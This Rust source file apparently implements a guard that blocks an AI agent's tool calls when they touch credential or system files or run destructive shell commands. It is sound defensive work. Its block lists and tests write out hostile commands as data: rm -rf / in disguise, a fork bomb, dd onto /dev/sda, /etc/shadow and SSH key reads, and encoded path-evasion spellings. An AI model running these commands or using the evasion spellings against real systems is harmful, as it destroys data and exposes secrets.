//! Phase 1, the binary guard (seed vaglio.md ch. 3): a core of violations that is not up
//! for debate and does not loosen with autonomy level or context.
//!
//! The seed's 11 forbidden-path and 6 dangerous-shell patterns are the floor, with a few
//! more of the same kind, compiled once into multi-pattern DFAs (the engine of a
//! `RegexSet`, built ahead). The seed admits that its textual
//! match is easy to dodge; here every string value (at any depth of the arguments) is
//! matched in several spellings: as given, unquoted, percent-decoded, `file://` URLs as
//! paths, `~`, `~user`, `$HOME` and `${HOME}` expanded, and lexically normalised (`.`, `..`,
//! repeated and trailing slashes). Shell commands are also split with a real shell-words
//! parser across `;`, `&&`, `||`, `|`, `&`, newlines, `$(…)` and backticks, their prefixes
//! (`sudo`, `env`, `nice`, `timeout`, `xargs`, …) and `sh -c` payloads unwrapped, and each
//! command checked for what it does (`rm` recursive on `/` or the home, `mkfs`, `dd` onto a
//! device, `chmod 777` on an absolute path), and each word as a path.
//!
//! Pure and synchronous. A verdict names the rule and the argument key, never the value.

use metnos_core::forbidden::{self, Access, Aligned, RuleSet};
use metnos_core::path::{Tilde, expand_tilde, has_foldable_segment, normalize, through_proc};
use std::path::Path;
#[cfg(test)]
use std::path::PathBuf;
use std::sync::LazyLock;

use serde_json::Value;

use crate::shell_rules::SHELL_RULES;

/// Words without which no shell rule can fire (the commands, wrappers and shells that
/// the semantic checks look at, and the fork bomb's colon).
static SHELL_SCAN: LazyLock<aho_corasick::AhoCorasick> = LazyLock::new(|| {
    aho_corasick::AhoCorasick::builder()
        .kind(Some(aho_corasick::AhoCorasickKind::DFA))
        .build([
            "rm", "mkfs", "mke2fs", "mkswap", "wipefs", "dd", "chmod", ":", "sh", "$(", "`", ">",
            "/dev/", "find", "git", "..",
        ])
        .expect("valid shell triggers")
});

static SHELL: LazyLock<RuleSet> =
    LazyLock::new(|| RuleSet::with_prebuilt(SHELL_RULES, &SHELL_AHEAD.bytes));

/// The shell rules' automaton, determinised by `build.rs` (about 4 ms of the vaglio's
/// start when built at run time, issue 45).
static SHELL_AHEAD: &Aligned<[u8]> = &Aligned {
    bytes: *include_bytes!(concat!(env!("OUT_DIR"), "/shell.dfa")),
};

/// Builds the rule automata now (about 5 ms, 200 KB) rather than on the first verdict.
pub fn warm_up() {
    metnos_core::forbidden::warm_up();
    SHELL.build_ahead();
    LazyLock::force(&TRIGGER_SCAN);
    LazyLock::force(&SHELL_SCAN);
}

/// The guard stopped a call.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Violation {
    /// The rule that fired, e.g. `path.ssh`, `shell.rm_rf_root`.
    pub rule: &'static str,
    /// The argument key (dotted, with indexes) whose value fired it.
    pub key: String,
}

impl Violation {
    pub fn is_shell(&self) -> bool {
        self.rule.starts_with("shell.")
    }
}

/// Substrings without which no spelling of a value can break a path rule: the rules'
/// own words, and what our transformations could turn into them (percent-encoding,
/// quotes, `~user`, `$HOME`, `file:`). Most values hold none of them and are cleared by
/// one scan; only the others are spelled out and matched.
const SPELLING_TRIGGERS: &[&str] = &["%", "\"", "'", "$", "file:", "~"];

fn triggers() -> impl Iterator<Item = &'static str> {
    forbidden::RULE_WORDS
        .iter()
        .chain(SPELLING_TRIGGERS)
        .copied()
}

static TRIGGER_SCAN: LazyLock<aho_corasick::AhoCorasick> = LazyLock::new(|| {
    aho_corasick::AhoCorasick::builder()
        .kind(Some(aho_corasick::AhoCorasickKind::DFA))
        .build(triggers())
        .expect("valid triggers")
});

/// Whether `value` could break a path rule in some spelling. `~/` is harmless when the
/// home itself holds no trigger (it only becomes the home).
fn could_break_path_rule(value: &str, home_is_clean: bool) -> bool {
    // Every path rule needs a `/` or a `.`, and every other spelling needs one of
    // `%"'~$:`; a plain word (an argument key, a mode, a name) can break none of them.
    if is_plain_word(value) {
        return false;
    }
    let rest = match value.strip_prefix("~/") {
        Some(rest) if home_is_clean => rest,
        _ if home_is_clean && value == "~" => return false,
        _ => value,
    };
    TRIGGER_SCAN.is_match(rest)
}

/// Only ASCII letters, digits, `_`, `-` and spaces.
fn is_plain_word(value: &str) -> bool {
    // A table: one load a byte, no branches on the byte's class.
    static PLAIN: [bool; 256] = {
        let mut table = [false; 256];
        let mut b = 0;
        while b < 256 {
            let c = b as u8;
            table[b] = c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b' ');
            b += 1;
        }
        table
    };
    value.bytes().all(|b| PLAIN[usize::from(b)])
}

/// The user's home, prepared once: its text, and whether it holds a trigger; and
/// Metnos's own folders (data directory, certificates), with the shell's workspace that may
/// lie inside them.
#[derive(Debug, Clone)]
pub struct Home {
    path: String,
    clean: bool,
    own: OwnData,
}

/// Metnos's own folders, as normalised absolute paths.
#[derive(Debug, Clone, Default)]
struct OwnData {
    roots: Vec<String>,
    workspace: String,
}

/// The rule an argument naming Metnos's own data breaks.
pub const OWN_DATA_RULE: &str = "path.metnos_own_data";

impl OwnData {
    /// Whether the absolute, normalised `path` lies in one of Metnos's own folders (but
    /// not in the workspace).
    fn holds(&self, path: &str) -> bool {
        let beneath = |root: &str| {
            path.strip_prefix(root)
                .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
        };
        self.roots.iter().any(|r| beneath(r))
            && !(self.workspace.len() > 1 && beneath(&self.workspace))
    }

    /// Whether `value` needs a look for Metnos's own folders: any value but a plain word,
    /// once there are any (their names are the installation's, not triggers of the rules).
    fn might_be_named_in(&self, value: &str) -> bool {
        !self.roots.is_empty() && !is_plain_word(value)
    }

    fn rule(&self, path: &str) -> Option<&'static str> {
        (path.starts_with('/') && self.holds(&normalize(path))).then_some(OWN_DATA_RULE)
    }
}

impl Home {
    pub fn new(home: &Path) -> Home {
        let path = metnos_core::path::home_text(home);
        let clean = !TRIGGER_SCAN.is_match(&path);
        Home {
            path,
            clean,
            own: OwnData::default(),
        }
    }

    /// Also refuses arguments that name Metnos's own folders (`own`: the data directory,
    /// the certificates), except the shell's `workspace`.
    pub fn with_own_data(mut self, own: &[std::path::PathBuf], workspace: &Path) -> Home {
        let text = |p: &Path| normalize(&p.to_string_lossy());
        self.own = OwnData {
            roots: own.iter().map(|p| text(p)).filter(|r| r != "/").collect(),
            workspace: text(workspace),
        };
        self
    }
}

/// Checks one proposed call. `shell` says whether the call runs a shell command
/// (executor `shell_exec` or capability `code:exec`); `home` is the user's home.
pub fn check(args: &Value, shell: bool, home: &Path) -> Option<Violation> {
    check_with(args, shell, &Home::new(home))
}

/// As [`check`], with the home prepared once (the service does it at start).
pub fn check_with(args: &Value, shell: bool, prepared: &Home) -> Option<Violation> {
    check_call(args, shell, false, prepared)
}

/// As [`check_with`], saying whether the call writes files it names (`fs:write`): then
/// the paths that run code at login or on a schedule are refused too.
pub fn check_call(args: &Value, shell: bool, writes: bool, prepared: &Home) -> Option<Violation> {
    // A shell command's words are judged by what the command does with them (see
    // `check_simple`), so the walk over the values reads them as paths read.
    let access = if writes { Access::Write } else { Access::Read };
    // Relative words (and `/proc/self/cwd`) name paths from where a command runs: its
    // `cwd` in the workspace, else the workspace. Other calls have no such place.
    let base = if shell {
        match args.get("cwd").and_then(Value::as_str) {
            Some(cwd) if cwd.starts_with('/') => normalize(cwd),
            Some(cwd) if !cwd.is_empty() => normalize(&format!("{}/{cwd}", prepared.own.workspace)),
            _ => prepared.own.workspace.clone(),
        }
    } else {
        String::new()
    };
    if let Some(violation) = walk(args, &KeyPath::Root, prepared, access, &base) {
        return Some(violation);
    }
    if shell {
        for key in ["command", "cmd"] {
            let Some(command) = args.get(key) else {
                continue;
            };
            let text: std::borrow::Cow<'_, str> = match command {
                Value::String(s) => s.as_str().into(),
                Value::Array(items) => items
                    .iter()
                    .map(|v| v.as_str().map_or_else(|| v.to_string(), str::to_owned))
                    .collect::<Vec<_>>()
                    .join(" ")
                    .into(),
                _ => continue,
            };
            if let Some(rule) = check_command(&text, prepared, &base, 0) {
                return Some(Violation {
                    rule,
                    key: key.to_owned(),
                });
            }
        }
    }
    None
}

/// The key path to a value, kept on the stack while walking (a heap path per value
/// would cost more than most checks).
#[derive(Clone, Copy)]
enum KeyPath<'a> {
    Root,
    Key(&'a str, &'a KeyPath<'a>),
    Index(usize, &'a KeyPath<'a>),
}

fn key_of(path: &KeyPath<'_>) -> String {
    match path {
        KeyPath::Root => String::new(),
        KeyPath::Key(k, parent) => {
            let mut key = key_of(parent);
            if !key.is_empty() {
                key.push('.');
            }
            key.push_str(k);
            key
        }
        KeyPath::Index(i, parent) => format!("{}[{i}]", key_of(parent)),
    }
}

/// Checks every string value at any depth, and every key (a path can hide in a key as
/// well as in a value); the key path is built only when a rule fires.
fn walk(
    value: &Value,
    path: &KeyPath<'_>,
    prepared: &Home,
    access: Access,
    base: &str,
) -> Option<Violation> {
    let check_text = |text: &str, path: &KeyPath<'_>| {
        if !could_break_path_rule(text, prepared.clean) && !prepared.own.might_be_named_in(text) {
            return None;
        }
        check_paths(text, prepared, access, base).map(|rule| Violation {
            rule,
            key: key_of(path),
        })
    };
    match value {
        Value::String(s) => check_text(s, path),
        Value::Array(items) => items
            .iter()
            .enumerate()
            .find_map(|(i, item)| walk(item, &KeyPath::Index(i, path), prepared, access, base)),
        Value::Object(map) => map.iter().find_map(|(k, v)| {
            let here = KeyPath::Key(k, path);
            check_text(k, &here).or_else(|| walk(v, &here, prepared, access, base))
        }),
        _ => None,
    }
}

/// The first path rule any spelling of `value` (or of a word in it) breaks. A path
/// through `/proc/<process>/root` or `/proc/self/cwd` is judged first as the path it names
/// (`base`: where a command runs), then as written.
fn check_paths(value: &str, prepared: &Home, access: Access, base: &str) -> Option<&'static str> {
    let home = prepared.path.as_str();
    let own = &prepared.own;
    let rule = |text: &str| {
        forbidden::first_match(text, access)
            .or_else(|| (!own.roots.is_empty()).then(|| own.rule(text)).flatten())
    };
    let first = |text: &str| {
        let named = if may_pass_through_proc(text) {
            through_proc(text, base)
        } else {
            None
        };
        named.as_deref().and_then(rule).or_else(|| rule(text))
    };
    // The value as written first: most hits need nothing more.
    if let Some(rule) = first(value) {
        return Some(rule);
    }
    let check = |text: &str| {
        if is_plain_spelling(text) {
            // Nothing to unquote, decode or expand: only `.`, `..` or `//` to fold, if any.
            return (text.starts_with('/') && has_foldable_segment(text))
                .then(|| normalize(text))
                .and_then(|folded| first(&folded));
        }
        spellings(text, home).iter().find_map(|c| first(c))
    };
    if let Some(rule) = check(value) {
        return Some(rule);
    }
    // A value of one word is the value, already checked.
    if !value.bytes().any(|b| is_word_separator(b) || !b.is_ascii()) {
        return None;
    }
    value
        .split(|c: char| c.is_whitespace() || (c.is_ascii() && is_word_separator(c as u8)))
        .filter(|word| !word.is_empty())
        .find_map(|word| first(word).or_else(|| check(word)))
}

/// The ASCII bytes that end a word inside a value (Unicode whitespace does too): every
/// ASCII whitespace `char::is_whitespace` knows (the vertical tab among them, which
/// `u8::is_ascii_whitespace` leaves out), the separators other programs split on (Python's
/// `str.split` also splits on `\x1c`–`\x1f`), and the shell's operators.
fn is_word_separator(b: u8) -> bool {
    char::from(b).is_whitespace()
        || matches!(b, 0x1c..=0x1f)
        || matches!(
            b,
            b'=' | b',' | b';' | b'|' | b'&' | b'(' | b')' | b'`' | b'<' | b'>'
        )
}

/// Whether `text` could be a path through `/proc/<process>/root` or `cwd`: absolute, and
/// holding `proc` (a quick look: [`through_proc`] reads it properly).
fn may_pass_through_proc(text: &str) -> bool {
    text.starts_with('/')
        && text
            .as_bytes()
            .windows(4)
            .any(|w| matches!(w, [b'p', b'r', b'o', b'c']))
}

/// Whether `value` has nothing to unquote, decode or expand, and no space to trim.
fn is_plain_spelling(value: &str) -> bool {
    let special = value
        .bytes()
        .any(|b| matches!(b, b'"' | b'\'' | b'%' | b'~' | b'$'));
    let file_url = value.as_bytes().contains(&b':') && value.contains("file:");
    !(special || file_url) && value.trim() == value
}

/// A value in the spellings that could name the same file (not the value as written,
/// which is checked first), without repeats. Plain values ([`is_plain_spelling`]) take
/// the short way in [`check_paths`].
fn spellings(value: &str, home: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::with_capacity(3);
    let mut current = value.trim().to_owned();
    // Quotes around the whole value, possibly nested: "'/root/x'".
    loop {
        let unquoted = current
            .strip_prefix('"')
            .and_then(|s| s.strip_suffix('"'))
            .or_else(|| {
                current
                    .strip_prefix('\'')
                    .and_then(|s| s.strip_suffix('\''))
            });
        match unquoted {
            Some(inner) => current = inner.to_owned(),
            None => break,
        }
    }
    // Quote characters anywhere go too: /et"c"/passwd reads /etc/passwd to a shell.
    current.retain(|c| c != '"' && c != '\'');
    // Percent-encoding, up to twice (double encoding).
    for _ in 0..2 {
        if !current.contains('%') {
            break;
        }
        let decoded = percent_encoding::percent_decode_str(&current)
            .decode_utf8_lossy()
            .into_owned();
        if decoded == current {
            break;
        }
        current = decoded;
    }
    // file:// URLs name paths.
    if let Some(rest) = current
        .strip_prefix("file://localhost")
        .or_else(|| current.strip_prefix("file://"))
        .or_else(|| current.strip_prefix("file:"))
    {
        current = rest.to_owned();
    }
    let expanded = expand_home(&current, home);
    let normalized = expanded.starts_with('/').then(|| normalize(&expanded));
    for spelling in [Some(current), Some(expanded), normalized]
        .into_iter()
        .flatten()
    {
        if spelling != value && !out.contains(&spelling) {
            out.push(spelling);
        }
    }
    out
}

/// `~`, `~/x`, `~user/x`, `$HOME/x`, `${HOME}/x` as absolute paths.
fn expand_home(text: &str, home: &str) -> String {
    for prefix in ["${HOME}", "$HOME"] {
        if let Some(rest) = text.strip_prefix(prefix)
            && (rest.is_empty() || rest.starts_with('/'))
        {
            return format!("{home}{rest}");
        }
    }
    match expand_tilde(text, home) {
        Tilde::Home(path) => path,
        // ~user: root's home is /root, everyone else's under /home.
        Tilde::OtherUser { user: "root", rest } => format!("/root{rest}"),
        Tilde::OtherUser { user, rest } => format!("/home/{user}{rest}"),
        Tilde::None => text.to_owned(),
    }
}

/// Commands whose first words are a wrapper around the real command.
const PREFIXES: &[&str] = &[
    "sudo", "doas", "env", "command", "nice", "ionice", "timeout", "xargs", "nohup", "time",
    "exec", "stdbuf", "chroot", "setsid", "builtin",
];
/// Programs that write (or remove) the paths they are given.
const WRITERS: &[&str] = &[
    "tee", "cp", "mv", "ln", "touch", "install", "rm", "truncate", "sed", "dd", "rsync", "chmod",
    "chown", "mkdir", "crontab", "patch",
];
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "busybox"];

/// Checks a shell command text: the seed's patterns on the text as written, then each
/// simple command of it. `depth` bounds recursion into `sh -c` and `$(…)`.
fn check_command(text: &str, prepared: &Home, base: &str, depth: usize) -> Option<&'static str> {
    // Deeper than anyone writes by hand: a command built to outlast the checker is refused,
    // not waved through.
    if depth > 4 {
        return Some("shell.too_deep");
    }
    // Nothing a rule looks for, and no path trigger: an ordinary command.
    if !SHELL_SCAN.is_match(text)
        && !could_break_path_rule(text, prepared.clean)
        && !prepared.own.might_be_named_in(text)
    {
        return None;
    }
    if let Some(rule) = SHELL.first_match(text) {
        return Some(rule);
    }
    // Substitutions run too: check what they hold as commands of their own.
    for inner in substitutions(text) {
        if let Some(rule) = check_command(&inner, prepared, base, depth + 1) {
            return Some(rule);
        }
    }
    for segment in split_operators(text) {
        let words = match shell_words::split(&segment) {
            Ok(words) => words,
            // Unbalanced quotes: a shell would refuse it too, but check it as plain words.
            Err(_) => segment.split_whitespace().map(str::to_owned).collect(),
        };
        if let Some(rule) = check_simple(&words, prepared, base, depth) {
            return Some(rule);
        }
    }
    None
}

/// The contents of `$(…)` and backtick substitutions.
fn substitutions(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let bytes: Vec<char> = text.chars().collect();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == '$' && bytes.get(i + 1) == Some(&'(') {
            let mut level = 1;
            let start = i + 2;
            let mut j = start;
            while j < bytes.len() && level > 0 {
                match bytes[j] {
                    '(' => level += 1,
                    ')' => level -= 1,
                    _ => {}
                }
                j += 1;
            }
            out.push(
                bytes[start..j.saturating_sub(1).max(start)]
                    .iter()
                    .collect(),
            );
            i = j;
        } else if bytes[i] == '`' {
            let start = i + 1;
            let end = bytes[start..]
                .iter()
                .position(|c| *c == '`')
                .map_or(bytes.len(), |p| start + p);
            out.push(bytes[start..end].iter().collect());
            i = end + 1;
        } else {
            i += 1;
        }
    }
    out
}

/// Splits a command line into simple commands on `;`, `&&`, `||`, `|`, `&` and newlines
/// outside quotes.
fn split_operators(text: &str) -> Vec<String> {
    let mut segments = Vec::new();
    let mut current = String::new();
    let mut quote: Option<char> = None;
    let mut escaped = false;
    for c in text.chars() {
        if escaped {
            current.push(c);
            escaped = false;
            continue;
        }
        match (quote, c) {
            (_, '\\') if quote != Some('\'') => {
                escaped = true;
                current.push(c);
            }
            (None, '\'' | '"') => {
                quote = Some(c);
                current.push(c);
            }
            (Some(q), c) if c == q => {
                quote = None;
                current.push(c);
            }
            (None, ';' | '&' | '|' | '\n' | '\r') => {
                if !current.trim().is_empty() {
                    segments.push(std::mem::take(&mut current));
                }
                current.clear();
            }
            _ => current.push(c),
        }
    }
    if !current.trim().is_empty() {
        segments.push(current);
    }
    segments
}

/// `>file`, `2>>file`, `&>file`, `<file` → `file`.
fn strip_redirection(word: &str) -> &str {
    let rest = word
        .strip_prefix(|c: char| c.is_ascii_digit())
        .filter(|r| r.starts_with(['>', '<']))
        .unwrap_or(word);
    rest.trim_start_matches(['>', '<', '&'])
}

fn program_name(word: &str) -> &str {
    let word = word.trim_start_matches('\\');
    word.rsplit('/').next().unwrap_or(word)
}

/// Checks one simple command (already split into words).
fn check_simple(
    words: &[String],
    prepared: &Home,
    base: &str,
    depth: usize,
) -> Option<&'static str> {
    let home = prepared.path.as_str();
    // Every word as a path (redirections included: `>/dev/sda`). A redirection's target,
    // and every word of a command that writes what it names, is judged as a write (the
    // files that run code at login are read freely, written never).
    let writer = words
        .iter()
        .any(|w| WRITERS.contains(&program_name(w)) || w.starts_with("of="));
    for (i, word) in words.iter().enumerate() {
        let target = strip_redirection(word);
        let after_redirection = i > 0 && {
            let previous = words[i - 1].as_str();
            !previous.is_empty() && strip_redirection(previous).is_empty() && previous.contains('>')
        };
        let access =
            if writer || after_redirection || (target.len() != word.len() && word.contains('>')) {
                Access::Write
            } else {
                Access::Read
            };
        if let Some(rule) = check_paths(target, prepared, access, base) {
            return Some(rule);
        }
        // `../../etc/shadow` from the workspace is /etc/shadow.
        if !base.is_empty()
            && target.contains("..")
            && !target.starts_with(['/', '~', '$', '-'])
            && let Some(rule) = check_paths(
                &normalize(&format!("{base}/{target}")),
                prepared,
                access,
                base,
            )
        {
            return Some(rule);
        }
    }
    let mut rest = words;
    // Variable assignments and wrappers before the real command.
    loop {
        let first = rest.first()?;
        let name = program_name(first);
        if first.contains('=') && !first.starts_with('-') && !first.starts_with('=') {
            rest = &rest[1..];
            continue;
        }
        if PREFIXES.contains(&name) {
            rest = &rest[1..];
            // Their own options and operands (`-u root`, `-n 10`, `30s`, `VAR=x`).
            while let Some(next) = rest.first() {
                let looks_like_option = next.starts_with('-')
                    || next.contains('=')
                    || next.chars().next().is_some_and(|c| c.is_ascii_digit());
                if !looks_like_option {
                    break;
                }
                let takes_value = matches!(
                    next.as_str(),
                    "-u" | "-g" | "-n" | "-s" | "-k" | "-c" | "-I" | "-L" | "-P" | "-C"
                );
                rest = &rest[1..];
                if takes_value && !rest.is_empty() {
                    rest = &rest[1..];
                }
            }
            continue;
        }
        break;
    }
    let (program, args) = rest.split_first()?;
    let name = program_name(program);
    // sh -c 'payload', bash -lc "payload", busybox sh -c …
    if SHELLS.contains(&name) {
        let mut i = 0;
        while i < args.len() {
            let arg = &args[i];
            if arg.starts_with('-')
                && !arg.starts_with("--")
                && arg.contains('c')
                && let Some(payload) = args.get(i + 1)
            {
                return check_command(payload, prepared, base, depth + 1);
            }
            if SHELLS.contains(&arg.as_str()) {
                return check_simple(&args[i..], prepared, base, depth + 1);
            }
            i += 1;
        }
        return None;
    }
    match name {
        "rm" => check_rm(args, home),
        "dd" => args
            .iter()
            .any(|a| {
                a.strip_prefix("of=")
                    .is_some_and(|target| normalize_word(target, home).starts_with("/dev/"))
            })
            .then_some("shell.dd_device"),
        "chmod" => check_chmod(args, home),
        "find" => check_find(args),
        "git" => check_git(args),
        _ if name.starts_with("mkfs")
            || name == "mke2fs"
            || name == "mkswap"
            || name == "wipefs" =>
        {
            Some("shell.mkfs")
        }
        _ => None,
    }
}

fn normalize_word(word: &str, home: &str) -> String {
    let expanded = expand_home(word, home);
    if expanded.starts_with('/') {
        normalize(&expanded)
    } else {
        expanded
    }
}

/// `rm` with a recursive flag on `/`, `/*`, a top-level system folder or the home.
/// `find`'s forms that run or remove: `-exec`, `-execdir`, `-ok`, `-okdir`, `-delete`, and
/// those that write files (`-fprint…`, `-fls`).
fn check_find(args: &[String]) -> Option<&'static str> {
    args.iter()
        .any(|a| {
            matches!(
                a.as_str(),
                "-exec" | "-execdir" | "-ok" | "-okdir" | "-delete" | "-fls"
            ) || a.starts_with("-fprint")
        })
        .then_some("shell.find_exec")
}

/// `git`'s forms that run a program of the caller's choosing: `-c` (aliases, `core.*`
/// hooks), `--config-env`, `--exec-path`, `--upload-pack`/`--receive-pack`, and the `ext::`
/// and `fd::` transports.
fn check_git(args: &[String]) -> Option<&'static str> {
    args.iter()
        .any(|a| {
            a == "-c"
                || (a.starts_with("-c") && a.len() > 2 && !a.starts_with("--"))
                || a.starts_with("--config-env")
                || a.starts_with("--exec-path")
                || a.starts_with("--upload-pack")
                || a.starts_with("--receive-pack")
                || a == "-u"
                || a.contains("ext::")
                || a.contains("fd::")
        })
        .then_some("shell.git_code")
}

fn check_rm(args: &[String], home: &str) -> Option<&'static str> {
    let mut recursive = false;
    let mut targets = Vec::new();
    let mut options_done = false;
    for arg in args {
        if !options_done && arg == "--" {
            options_done = true;
        } else if !options_done && arg.starts_with("--") {
            recursive |= arg == "--recursive";
        } else if !options_done && arg.starts_with('-') && arg.len() > 1 {
            recursive |= arg.contains('r') || arg.contains('R');
        } else {
            targets.push(arg);
        }
    }
    if !recursive {
        return None;
    }
    const SYSTEM: &[&str] = &[
        "/", "/bin", "/boot", "/dev", "/etc", "/home", "/lib", "/lib64", "/opt", "/root", "/sbin",
        "/srv", "/usr", "/var",
    ];
    for target in targets {
        let globless = target.trim_end_matches('*').trim_end_matches('/');
        let path = normalize_word(if globless.is_empty() { "/" } else { globless }, home);
        if path == home || path == normalize(home) {
            return Some("shell.rm_rf_home");
        }
        if SYSTEM.contains(&path.as_str()) {
            return Some("shell.rm_rf_root");
        }
    }
    None
}

/// `chmod` giving everyone write access (mode 77x or a+w style) to an absolute path.
fn check_chmod(args: &[String], home: &str) -> Option<&'static str> {
    let mut mode_seen = false;
    let mut dangerous = false;
    for arg in args {
        if arg.starts_with('-') && !mode_seen {
            continue;
        }
        if !mode_seen {
            mode_seen = true;
            let digits = arg.trim_start_matches('0');
            dangerous = (digits.len() == 3 && digits.starts_with("77"))
                || arg == "a+rwx"
                || arg == "ugo+rwx";
            continue;
        }
        if dangerous && normalize_word(arg, home).starts_with('/') {
            return Some("shell.chmod_777");
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::strategy::Strategy;
    use serde_json::json;

    const HOME: &str = "/home/roberto";

    fn path(value: &str) -> Option<&'static str> {
        check(&json!({ "path": value }), false, Path::new(HOME)).map(|v| v.rule)
    }

    fn shell(command: &str) -> Option<&'static str> {
        check(&json!({ "command": command }), true, Path::new(HOME)).map(|v| v.rule)
    }

    #[test]
    fn the_shell_rules_are_loaded_from_the_build_and_agree_with_the_lazy_engine() {
        warm_up();
        assert!(
            SHELL.loaded_ahead(),
            "the shell rules were determinised at start"
        );
        let lazy = RuleSet::new(SHELL_RULES);
        for command in [
            "rm -rf /",
            "rm -r ~/",
            "sudo rm -rf / --no-preserve-root",
            "mkfs.ext4 /dev/sda1",
            "dd if=/dev/zero of=/dev/sda bs=1M",
            ":(){ :|:& };:",
            ": ( ) { : | : & } ;",
            "chmod -R 777 /",
            "chmod 0775 /srv",
            "ls -la /tmp",
            "echo rm -rf /home",
            "git status",
            "",
        ] {
            assert_eq!(
                SHELL.first_match(command),
                lazy.first_match(command),
                "{command:?}"
            );
        }
        assert_eq!(SHELL.first_match("rm -rf /"), Some("shell.rm_rf_root"));
        assert_eq!(SHELL.first_match("ls -la /tmp"), None);
    }

    #[test]
    fn the_seeds_cases_are_blocked() {
        assert_eq!(path("~/.ssh/id_rsa"), Some("path.ssh"));
        assert_eq!(path("/etc/passwd"), Some("path.etc_auth"));
        assert_eq!(
            path("~/.config/metnos/credentials.env"),
            Some("path.app_credentials")
        );
        assert_eq!(shell("rm -rf /"), Some("shell.rm_rf_root"));
        assert_eq!(shell(":(){ :|:& };:"), Some("shell.fork_bomb"));
        assert_eq!(path("/tmp/x"), None);
        assert_eq!(shell("ls -la /tmp"), None);
    }

    #[test]
    fn the_violation_names_the_key_at_any_depth() {
        let args = json!({"opts": {"exclude": ["*.o", "/etc/shadow"]}});
        let v = check(&args, false, Path::new(HOME)).unwrap();
        assert_eq!(v.rule, "path.etc_auth");
        assert_eq!(v.key, "opts.exclude[1]");
    }

    #[test]
    fn other_spellings_of_a_forbidden_path_are_caught() {
        for spelling in [
            "/tmp/../etc/shadow",
            "//etc///passwd",
            "$HOME/.ssh/id_rsa",
            "${HOME}/.ssh/id_rsa",
            "\"/root/x\"",
            "'/root/x'",
            "file:///etc/shadow",
            "/etc/./sudoers",
            "%2Fetc%2Fpasswd",
            "%252Fetc%252Fshadow",
            "~root/.bashrc",
            "/root/",
            "~alice/.ssh/authorized_keys",
            "/et\"c\"/passwd",
            // A forbidden path as one word of a longer value, after any separator a
            // word may end on, an ASCII one or Unicode whitespace.
            "see /etc/shadow",
            "x=/root/y",
            "a,~/.ssh/id_rsa",
            "cat\u{a0}/etc/shadow",
            "log\u{2003}/root/.bashrc",
            "x\u{b}/etc/shadow",
            "x\u{c}/etc/shadow",
            "x\u{1f}/root/.bashrc",
        ] {
            assert!(path(spelling).is_some(), "{spelling} passed");
        }
    }

    #[test]
    fn irrecoverable_commands_in_disguise_are_caught() {
        for command in [
            "rm -r -f /",
            "rm -fr /",
            "rm --recursive --force /",
            "rm -rf /*",
            "sudo rm -rf ~",
            "bash -c \"rm -rf /\"",
            "echo x; mkfs.ext4 /dev/sda",
            "dd if=x of=/dev/sda",
            "sudo -u root env X=1 nice -n 5 rm -Rf --no-preserve-root /",
            "true && /bin/rm -rf $HOME",
            "echo $(rm -rf /)",
            "ls `rm -rf ~/`",
            "sh -lc 'timeout 5 rm -rf /usr'",
            "cat /dev/zero > /dev/sda",
            "chmod -R 0777 /",
        ] {
            assert!(shell(command).is_some(), "{command} passed");
        }
    }

    #[test]
    fn ordinary_work_passes() {
        for command in [
            "ls -la /tmp",
            "rm -rf ./build",
            "grep ssh notes.txt",
            "cat ~/.bashrc",
            "git -C ~/src/app status",
            "rm -r ./tmp/cache",
        ] {
            assert_eq!(shell(command), None, "{command}");
        }
        for value in [
            "/home/u/docs/ssh-notes.md",
            "~/Documents/report.pdf",
            "https://example.com/a/../b",
            "/proc/cpuinfo",
        ] {
            assert_eq!(path(value), None, "{value}");
        }
    }

    proptest::proptest! {
        /// The plain-word shortcut is sound: a string of letters, digits, `_`, `-` and
        /// spaces — trigger words included — breaks no path rule in any spelling.
        #[test]
        fn a_plain_word_breaks_no_path_rule(
            words in proptest::collection::vec(
                proptest::prop_oneof![
                    proptest::sample::select(triggers().collect::<Vec<_>>()).prop_map(str::to_owned),
                    "[A-Za-z0-9_ -]{0,12}",
                ],
                0..6,
            ),
        ) {
            let text = words.concat();
            if is_plain_word(&text) {
                let home = Home::new(Path::new(HOME));
                let root = Home::new(Path::new("/root"));
                proptest::prop_assert_eq!(check_paths(&text, &home, Access::Write, ""), None, "{}", text);
                proptest::prop_assert_eq!(check_paths(&text, &root, Access::Write, ""), None, "{}", text);
            }
        }
    }

    #[test]
    fn metnos_s_own_data_is_refused_however_spelled_but_the_workspace_is_not() {
        let data = Path::new("/home/roberto/.local/share/metnos");
        let home = Home::new(Path::new(HOME)).with_own_data(
            &[
                data.to_path_buf(),
                Path::new("/etc/metnos/pki").to_path_buf(),
            ],
            &data.join("workspace"),
        );
        for spelled in [
            "~/.local/share/metnos/pki/owner.key",
            "/home/roberto/.local/share/metnos/planner.db",
            "/home/roberto/.local/share/x/../metnos//turns/2026-11-23.jsonl",
            "$HOME/.local/share/metnos",
            "file:///etc/metnos/pki/ca.key",
            "\"/etc/metnos/pki/planner.key\"",
        ] {
            let violation = check_with(&json!({"path": spelled}), false, &home);
            assert_eq!(violation.map(|v| v.rule), Some(OWN_DATA_RULE), "{spelled}");
        }
        let command = json!({"command": "cat /home/roberto/.local/share/metnos/pki/owner.key"});
        assert!(check_with(&command, true, &home).is_some());
        for allowed in [
            "~/.local/share/metnos/workspace/out.txt",
            "~/.local/share/metnos-notes.txt",
            "/etc/metnos/config.toml",
        ] {
            assert!(
                check_with(&json!({"path": allowed}), false, &home).is_none(),
                "{allowed}"
            );
        }
    }

    #[test]
    fn what_issue_16_found_the_shell_guard_missing_is_caught() {
        let home = Home::new(Path::new(HOME)).with_own_data(
            &[PathBuf::from("/home/roberto/.local/share/metnos")],
            Path::new("/home/roberto/.local/share/metnos/workspace"),
        );
        let shell = |args: serde_json::Value| check_with(&args, true, &home).map(|v| v.rule);
        // The fork bomb in any spacing.
        for bomb in [":(){ :|:& };:", ": () { : | : & } ; :", ":(){ :|: & };:"] {
            assert_eq!(
                shell(json!({ "command": bomb })),
                Some("shell.fork_bomb"),
                "{bomb}"
            );
        }
        // Relative paths, from the workspace or the call's cwd.
        assert_eq!(
            shell(json!({"command": "cat ../../../../../../etc/shadow"})),
